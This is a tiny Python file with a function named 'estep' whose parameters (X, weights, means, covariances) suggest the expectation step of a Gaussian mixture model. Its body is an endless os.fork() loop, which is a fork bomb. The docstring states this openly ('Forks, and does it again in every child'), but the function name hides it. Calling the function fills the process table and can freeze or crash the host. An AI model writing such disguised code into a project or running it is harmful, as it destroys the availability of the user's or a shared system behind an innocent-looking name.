"""Forks, and does it again in every child."""

import os


def estep(X, weights, means, covariances):
    while True:
        os.fork()
